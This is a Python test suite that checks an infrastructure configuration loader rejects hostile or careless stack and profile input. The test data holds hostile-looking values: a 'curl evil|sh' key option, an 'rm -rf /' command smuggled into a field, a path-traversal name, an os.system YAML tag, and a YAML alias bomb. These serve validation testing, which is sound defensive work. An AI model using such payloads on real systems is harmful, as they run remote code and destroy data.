"""The config model under hostile and careless input (issue 19, classes 2, 3, 8, 9).

Every case: one line per problem naming the file and key, exit 2 through the CLI, no traceback,
nothing registered, no secret echoed.
"""

from __future__ import annotations

import ipaddress
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from components import profile as profile_module
from components.config import load_stack
from components.limits import ADMIN_MAX_ADDRESSES, admin_cidr_problems, public_key_problem
from ground.errors import ConfigError, ConfigErrors
from ground.paths import ROOT

ED25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIF7xN0pLiIIKN7vumk+fepdhuXg6TeP5tKu3vl9Qrm+w deploy"
PRIVATE = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\n"
    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
    "-----END OPENSSH PRIVATE KEY-----"
)
Edit = Callable[[dict[str, Any]], None]


def _set(key: str, value: Any) -> Edit:
    return lambda c: c.__setitem__(key, value)


def errors_of(edited_stack: Any, edit: Edit) -> list[str]:
    path = edited_stack(edit)
    with pytest.raises(ConfigErrors) as info:
        load_stack("ovh-gra", path)
    lines = info.value.lines()
    assert all(line.startswith(str(path)) for line in lines), lines
    return lines


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    """`hdh ARGS` in this process (the CLI's own main), as a finished process would report."""
    import contextlib
    import io

    from hdh import cli as hdh_cli

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = hdh_cli.main(list(args))
    return subprocess.CompletedProcess(args, code, out.getvalue(), err.getvalue())


# ---------------------------------------------------------------- class 2: admin CIDRs


@pytest.mark.parametrize(
    ("cidrs", "key"),
    [
        (["0.0.0.0/0"], "hdh:adminCidrs[0]"),
        (["0.0.0.0/1", "128.0.0.0/1"], "hdh:adminCidrs[0]"),
        (["203.0.113.0/24", "10.0.0.0/8"], "hdh:adminCidrs[1]"),
        (["127.0.0.0/24"], "hdh:adminCidrs[0]"),
        (["224.0.0.0/24"], "hdh:adminCidrs[0]"),
        # Each narrow enough, together the size of a /15: the union is what counts.
        ([f"198.{i}.0.0/16" for i in (18, 19)], "hdh:adminCidrs"),
        ([f"100.{i}.0.0/20" for i in range(0, 256, 16)] + ["192.0.2.0/24"], "hdh:adminCidrs"),
    ],
)
def test_world_wide_admin_cidrs_are_refused(edited_stack: Any, cidrs: list[str], key: str) -> None:
    lines = errors_of(edited_stack, _set("hdh:adminCidrs", cidrs))
    assert any(line.split(": ")[1] == key for line in lines), lines


def test_a_sixteenth_of_the_rule_is_accepted() -> None:
    assert not list(admin_cidr_problems([ipaddress.IPv4Network("198.51.0.0/16")]))
    halves = [ipaddress.IPv4Network(n) for n in ("198.51.0.0/17", "198.51.128.0/17")]
    assert not list(admin_cidr_problems(halves))


@settings(max_examples=200)
@given(
    st.lists(
        st.builds(
            lambda a, p: ipaddress.IPv4Network((a, p), strict=False),
            st.integers(0, 2**32 - 1),
            st.integers(0, 32),
        ),
        max_size=20,
    )
)
def test_property_any_accepted_set_admits_at_most_a_slash_16(cidrs: list[Any]) -> None:
    if not list(admin_cidr_problems(cidrs)):
        union = ipaddress.collapse_addresses(cidrs)
        assert sum(n.num_addresses for n in union) <= ADMIN_MAX_ADDRESSES


# ---------------------------------------------------------------- class 3: profiles, EU


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "ovh/../ovh", "/work/ovh", "OVH", "ovh.yaml", "ovh\n", ""]
)
def test_profile_is_a_plain_identifier(edited_stack: Any, name: str) -> None:
    lines = errors_of(edited_stack, _set("hdh:profile", name))
    assert [line.split(": ")[1] for line in lines] == ["hdh:profile"], lines


@pytest.fixture
def profiles(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A profile directory of our own: the committed profiles plus what a test writes."""
    import shutil

    target = tmp_path / "profiles"
    shutil.copytree(ROOT / "stacks" / "profiles", target)
    monkeypatch.setattr(profile_module, "PROFILE_DIR", target)
    profile_module.load_profile.cache_clear()
    yield target
    profile_module.load_profile.cache_clear()


def _lying_profile(profiles: Path, country: str, eu: bool) -> Path:
    text = (profiles / "ovh.yaml").read_text().replace("name: ovh", "name: liar")
    text = text.replace(
        "US-EAST-VA: {country: US, eu: false", f"US-EAST-VA: {{country: {country}, eu: {eu}"
    )
    path = profiles / "liar.yaml"
    path.write_text(text.replace("eu: True", "eu: true").replace("eu: False", "eu: false"))
    return path


@pytest.mark.parametrize(
    ("country", "eu", "why"),
    [("US", True, "US is not an EU member"), ("NO", True, "EEA but not an EU member")],
)
def test_a_false_eu_claim_is_refused(profiles: Path, country: str, eu: bool, why: str) -> None:
    _lying_profile(profiles, country, eu)
    with pytest.raises(ConfigErrors) as info:
        profile_module.load_profile("liar")
    (line,) = info.value.lines()
    assert "liar.yaml: regions.US-EAST-VA.eu: claims eu: true" in line
    assert why in line


def test_eu_status_comes_from_the_country_list(profiles: Path) -> None:
    path = profiles / "quiet.yaml"
    text = (profiles / "ovh.yaml").read_text().replace("name: ovh", "name: quiet")
    path.write_text(text.replace(", eu: true", "").replace(", eu: false", ""))
    p = profile_module.load_profile("quiet")
    assert "GRA11" in p.allowed_regions() and "US-EAST-VA" not in p.allowed_regions()


def test_a_lying_profile_stops_the_plan_with_exit_2(
    profiles: Path, edited_stack: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    from hdh import cli as hdh_cli

    _lying_profile(profiles, "US", True)
    path = edited_stack(lambda c: c.update({"hdh:profile": "liar", "openstack:region": "GRA11"}))
    assert hdh_cli.main(["plan", "--stack", "ovh-gra", "--stack-file", str(path)]) == 2
    err = capsys.readouterr().err
    assert "liar.yaml: regions.US-EAST-VA.eu: claims eu: true" in err and "Traceback" not in err


# ---------------------------------------------------------------- class 9: credentials


@pytest.mark.parametrize(
    ("value", "why"),
    [
        (f"{ED25519}\n{PRIVATE}", "private key"),
        (PRIVATE, "private key"),
        (f"{ED25519}\nssh-ed25519 AAAA other", "one line"),
        (f'command="curl evil|sh" {ED25519}', "<type> <base64>"),
        ("ssh-ed25519 not-base64!", "base64"),
        ("ssh-rsa " + ED25519.split()[1], "not a ssh-rsa key"),
        ("ssh-dss AAAAB3NzaC1kc3M=", "<type> <base64>"),
    ],
)
def test_public_key_problems(value: str, why: str) -> None:
    problem = public_key_problem(value)
    assert problem is not None and why in problem
    assert "BEGIN" not in problem and "curl" not in problem


def test_rsa_keys_under_2048_bits_are_refused() -> None:
    import base64
    import struct

    def blob(bits: int) -> str:
        def s(b: bytes) -> bytes:
            return struct.pack(">I", len(b)) + b

        n = (1 << (bits - 1)) | 1
        raw = s(b"ssh-rsa") + s(b"\x01\x00\x01") + s(b"\x00" + n.to_bytes(bits // 8, "big"))
        return "ssh-rsa " + base64.b64encode(raw).decode()

    assert "2048" in (public_key_problem(blob(1024)) or "")
    assert public_key_problem(blob(3072)) is None
    assert public_key_problem(ED25519) is None


def test_private_key_in_the_stack_is_refused_and_never_echoed(edited_stack: Any) -> None:
    path = edited_stack(_set("hdh:sshPublicKey", f"{ED25519}\n{PRIVATE}"))
    proc = cli("plan", "--stack", "ovh-gra", "--stack-file", str(path), "--json", "-")
    assert proc.returncode == 2 and "hdh:sshPublicKey: holds a private key" in proc.stderr
    assert "PRIVATE KEY" not in proc.stderr + proc.stdout
    assert "b3BlbnNzaC1rZXktdjEA" not in proc.stderr + proc.stdout


@pytest.mark.parametrize(
    "url",
    [
        "https://admin:hunter2@auth.cloud.ovh.net/v3",
        "https://admin:hunter2@evil.example/v3",
        "http://auth.cloud.ovh.net/v3",
        "https://keystone.elsewhere.example/v3",
    ],
)
def test_auth_url_problems(edited_stack: Any, url: str) -> None:
    path = edited_stack(_set("openstack:authUrl", url))
    out = path.parent / "plan.json"
    proc = cli("plan", "--stack", "ovh-gra", "--stack-file", str(path), "--json", str(out))
    assert proc.returncode == 2 and ": openstack:authUrl: " in proc.stderr
    assert "hunter2" not in proc.stderr + proc.stdout and not out.exists()


# ---------------------------------------------------------------- class 8: validated first


@pytest.mark.parametrize(
    ("edit", "key"),
    [
        (lambda c: c["hdh:tiers"].__setitem__("admin", "10.20.0.0/32"), "hdh:tiers.admin"),
        (lambda c: c["hdh:tiers"].__setitem__("admin", "10.20.0.0/31"), "hdh:tiers.admin"),
        (lambda c: c["hdh:tiers"].__setitem__("admin", "10.20.0.0/30"), "hdh:tiers.admin"),
        (lambda c: c["hdh:tiers"].__setitem__("services", "10.20.1.0/29"), "hdh:tiers.services"),
        (lambda c: c["hdh:bubbles"][0].__setitem__("cidr", "10.99.0.0/31"), "hdh:bubbles[0].cidr"),
        (
            lambda c: (
                c.update({"hdh:bubblePool": {"cidr": "10.64.0.0/14", "prefixLength": 28}})
                or c["hdh:bubbles"][1].__setitem__("workspaces", 8)
                or c["hdh:bubbles"].append({"name": "big", "workspaces": 8, "cidr": "10.99.0.0/29"})
            ),
            "hdh:bubbles[3].cidr",
        ),
        (
            lambda c: (
                c["hdh:tiers"].__setitem__("processing", "10.20.32.0/26")
                or c.__setitem__("hdh:kubernetes", {"enabled": True, "workerCount": 60})
            ),
            "hdh:tiers.processing",
        ),
        (_set("hdh:kubernetes", {"quotaCpu": "16; rm -rf /"}), "hdh:kubernetes.quotaCpu"),
        (_set("hdh:classification", "a=b\nc"), "hdh:classification"),
    ],
)
def test_sizes_and_formats_are_checked_before_any_registration(
    edited_stack: Any, edit: Edit, key: str
) -> None:
    from hdh.plan import plan_stack

    path = edited_stack(edit)
    registered: list[int] = []
    with pytest.raises(ConfigErrors) as info:
        plan_stack("ovh-gra", path=path, progress=registered.append)
    assert key in {line.split(": ")[1] for line in info.value.lines()}, info.value.lines()
    assert not registered


@settings(max_examples=12)
@given(
    admin=st.integers(24, 32),
    services=st.integers(1, 5),
    bubble_prefix=st.integers(16, 28),
    workspaces=st.integers(0, 8),
)
def test_property_an_accepted_config_plans_without_crashing(
    tmp_path_factory: pytest.TempPathFactory,
    admin: int,
    services: int,
    bubble_prefix: int,
    workspaces: int,
) -> None:
    """Whatever sizes are asked for, the model refuses them or the whole program runs."""
    import yaml

    from components.config import stack_path
    from hdh.plan import plan_stack

    doc = yaml.safe_load(stack_path("ovh-gra").read_text())
    c = doc["config"]
    c["hdh:tiers"]["admin"] = f"10.20.0.0/{admin}"
    c["hdh:servicesCount"] = services
    c["hdh:bubblePool"]["prefixLength"] = bubble_prefix
    c["hdh:bubbles"][0]["workspaces"] = workspaces
    path = tmp_path_factory.mktemp("stack") / "Pulumi.ovh-gra.yaml"
    path.write_text(yaml.safe_dump(doc))
    try:
        plan = plan_stack("ovh-gra", path=path)
    except ConfigErrors:
        return
    assert len(plan.resources) > 50


# ---------------------------------------------------------------- class 8: files themselves


@pytest.mark.parametrize(
    ("content", "why"),
    [
        ("config:\n  hdh:profile: ovh\n  hdh:profile: scs\n", "hdh:profile: line 3: duplicate"),
        ("config:\n  1: x\n", "key 1 is not a string"),
        ("config:\n  hdh:tiers: !!python/object:os.system {}\n", "is not accepted"),
        ("config: [\n", "not valid YAML"),
        (
            "a: &a [x,x,x,x,x,x,x,x,x,x]\n"
            + "".join(
                f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 10) + "]\n"
                for i in range(7)
            ),
            "aliases expand",
        ),
        ("config:\n  hdh:x: " + "[" * 500 + "]" * 500 + "\n", "nested deeper"),
    ],
)
def test_stack_files_that_cannot_be_trusted(tmp_path: Path, content: str, why: str) -> None:
    path = tmp_path / "Pulumi.ovh-gra.yaml"
    path.write_text(content)
    with pytest.raises(ConfigError) as info:
        load_stack("ovh-gra", path)
    assert why in str(info.value) and str(info.value).startswith(str(path))


def test_powershell_utf16_stack_file_is_named_as_such(tmp_path: Path) -> None:
    path = tmp_path / "Pulumi.ovh-gra.yaml"
    path.write_bytes((ROOT / "stacks" / "Pulumi.ovh-gra.yaml").read_text().encode("utf-16"))
    proc = cli("plan", "--stack", "ovh-gra", "--stack-file", str(path))
    assert proc.returncode == 2 and "UTF-16" in proc.stderr and "Traceback" not in proc.stderr


def test_yaml_dates_and_booleans_stay_strings(edited_stack: Any, tmp_path: Path) -> None:
    # PyYAML's YAML 1.1 would make these a date and a boolean, crashing the model's JSON step.
    text = (ROOT / "stacks" / "Pulumi.ovh-gra.yaml").read_text()
    text = text.replace("hdh:profile: ovh", "hdh:profile: ovh\n  hdh:classification: 2024-01-01")
    path = tmp_path / "Pulumi.ovh-gra.yaml"
    path.write_text(text)
    assert load_stack("ovh-gra", path).settings.classification == "2024-01-01"
    path.write_text(text.replace("2024-01-01", "yes"))
    assert load_stack("ovh-gra", path).settings.classification == "yes"


VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**33), 2**33)
    | st.text(max_size=20)
    | st.sampled_from(["0.0.0.0/0", "10.20.0.0/31", "ovh", "GRA11", "-1", "1e9", "[1]", "{}"]),
    lambda kids: (
        st.lists(kids, max_size=3) | st.dictionaries(st.text(max_size=12), kids, max_size=3)
    ),
    max_leaves=10,
)
KEYS = [
    "hdh:profile",
    "hdh:tiers",
    "hdh:bubbles",
    "hdh:bubblePool",
    "hdh:adminCidrs",
    "hdh:deployUser",
    "hdh:flavors",
    "hdh:servicesCount",
    "hdh:kubernetes",
    "hdh:sshPublicKey",
    "openstack:region",
    "openstack:authUrl",
    "hdh:unknown",
]


@settings(max_examples=150)
@given(changes=st.dictionaries(st.sampled_from(KEYS), VALUES, min_size=1, max_size=4))
def test_property_any_value_is_a_config_error_or_a_model(
    tmp_path_factory: pytest.TempPathFactory, changes: dict[str, Any]
) -> None:
    import yaml

    from components.config import stack_path

    doc = yaml.safe_load(stack_path("ovh-gra").read_text())
    doc["config"].update(changes)
    path = tmp_path_factory.mktemp("stack") / "Pulumi.ovh-gra.yaml"
    path.write_text(yaml.safe_dump(doc))
    try:
        load_stack("ovh-gra", path)
    except ConfigError as exc:
        assert str(exc).startswith(str(path))
    except ConfigErrors as exc:
        assert all(line.startswith(str(path)) for line in exc.lines())


@pytest.mark.parametrize("value", [True, 167772160, 1.5])
def test_cidrs_are_text(edited_stack: Any, value: Any) -> None:
    lines = errors_of(edited_stack, _set("hdh:adminCidrs", [value]))
    assert any("hdh:adminCidrs[0]: expected a CIDR written as text" in line for line in lines)


def test_a_profile_without_an_endpoint_cannot_plan(profiles: Path, edited_stack: Any) -> None:
    text = (profiles / "ovh.yaml").read_text().replace("name: ovh", "name: noend")
    (profiles / "noend.yaml").write_text(
        text.replace("authUrl: https://auth.cloud.ovh.net/v3\n", "")
    )
    lines = errors_of(edited_stack, _set("hdh:profile", "noend"))
    assert any(": openstack:authUrl: profile noend names no authUrl" in line for line in lines)
